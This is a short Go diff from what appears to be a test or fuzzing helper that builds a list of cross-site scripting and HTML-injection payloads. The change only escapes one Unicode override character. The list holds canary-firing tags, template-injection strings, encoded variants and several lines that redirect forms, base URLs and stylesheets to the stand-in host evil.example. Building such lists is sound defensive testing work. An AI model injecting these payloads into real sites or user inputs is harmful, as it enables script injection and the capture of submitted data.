@@ -191,7 +191,7 @@ func payloads(n int) []string {
 		`<base href=//evil.example/>`, `<form action=//evil.example><button>`, `<input name=ticket value=x>`, `<button formaction=//evil.example>x`, `<link rel=stylesheet href=//evil.example/x.css>`,
 		`<style>@import '//evil.example/x.css';</style>`, `<object data=//evil.example>`, `<embed src=//evil.example>`, `<template><xss-canary></template>`, `<details open ontoggle=xss_canary()>`,
 		`{{constructor.constructor('xss_canary()')()}}`, `${xss_canary()}`, `&lt;xss-canary&gt;`, `&#60;xss-canary&#62;`, `\u003cxss-canary\u003e`, `%3Cxss-canary%3E`, `+ADw-xss-canary+AD4-`,
-		"\u2028<xss-canary>", "<xss-canary\u200b>", "<\u0130mg src=x onerror=xss_canary()>", "‮<xss-canary>", "`onmouseover=xss_canary()", `\"><xss-canary>`, `\'><xss-canary>`,
+		"\u2028<xss-canary>", "<xss-canary\u200b>", "<\u0130mg src=x onerror=xss_canary()>", "\u202e<xss-canary>", "`onmouseover=xss_canary()", `\"><xss-canary>`, `\'><xss-canary>`,
 		`x" data-action="confirm`, `x" data-flow-status="connected`, `<main data-flow-status="connected">`, `</main><main data-flow-code="connected">`, `<bdi data-field="user">admin</bdi>`,
 	}
 	var all []string
